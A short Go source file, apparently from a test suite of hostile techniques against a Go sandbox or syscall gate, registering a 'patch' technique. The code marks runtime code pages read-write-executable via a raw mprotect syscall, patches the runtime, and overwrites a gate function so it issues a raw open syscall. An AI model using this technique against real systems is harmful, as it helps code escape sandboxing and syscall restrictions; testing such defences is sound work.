package main

import (
	"example.com/hostile/attack"
)

func init() { techniques["patch"] = tryPatch }

// tryPatch overwrites code of the runtime and calls it.
func tryPatch() {
	for at := attack.GateAt() &^ 4095; at < attack.GateAt()+8192; at += 4096 {
		attack.Syscall(10, at, 4096, 7, 0, 0, 0)
	}
	attack.Patch()
	attack.Write(attack.Gate, func(path, flags uintptr) int { return attack.Gate(2, path, flags, 0o666, 0, 0, 0) })
}
